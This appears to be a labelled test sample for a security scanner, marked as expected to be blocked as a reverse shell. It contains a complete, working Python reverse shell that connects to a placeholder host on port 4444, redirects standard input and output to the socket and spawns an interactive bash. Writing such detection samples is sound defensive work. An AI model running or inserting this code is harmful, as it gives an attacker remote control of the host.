# expect: BLOCKED category: reverse_shell
# Classic reverse shell: socket, dup2 onto stdio, then an interactive pty shell.
import os
import pty
import socket

HOST, PORT = "203.0.113.5", 4444

s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
s.connect((HOST, PORT))
for fd in (0, 1, 2):
    os.dup2(s.fileno(), fd)
pty.spawn("/bin/bash")
